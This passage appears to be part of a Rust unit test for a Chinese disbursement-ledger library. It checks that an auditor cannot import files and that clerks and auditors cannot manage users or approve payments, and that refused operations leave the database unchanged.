    assert_eq!(clerk_.role, Role::Clerk);
    let before = snapshot(&conn);
    // an auditor imports nothing, a clerk manages no users and approves nothing
    let f = import::import_bytes(
        &mut conn,
        &auditor,
        "disbursements.csv",
        disbursement("YJ-R-1", "100", "2025-03-01").as_bytes(),
        None,
        &Options::default(),
    )
    .unwrap_err();
    assert!(f.to_string().contains("只读"), "{f}");
    let e = zhida_core::users::set_user(&mut conn, &clerk_, "小张", Role::Supervisor).unwrap_err();
    assert!(matches!(e, zhida_core::Error::Forbidden(_)), "{e}");
    assert_eq!(snapshot(&conn), before);
    import::import_bytes(
        &mut conn,
        &clerk_,
        "disbursements.csv",
        disbursement("YJ-R-2", "100", "2025-03-01")
            .replace(",paid,小李,王科长,", ",pending,小张,,")
            .as_bytes(),
        None,
        &Options::default(),
    )
    .unwrap();
    let e = zhida_core::ledger::approve(&mut conn, &clerk_, "YJ-R-2").unwrap_err();
    assert!(matches!(e, zhida_core::Error::Forbidden(_)), "{e}");
    let e = zhida_core::ledger::approve(&mut conn, &auditor, "YJ-R-2").unwrap_err();
    assert!(matches!(e, zhida_core::Error::Forbidden(_)), "{e}");
}
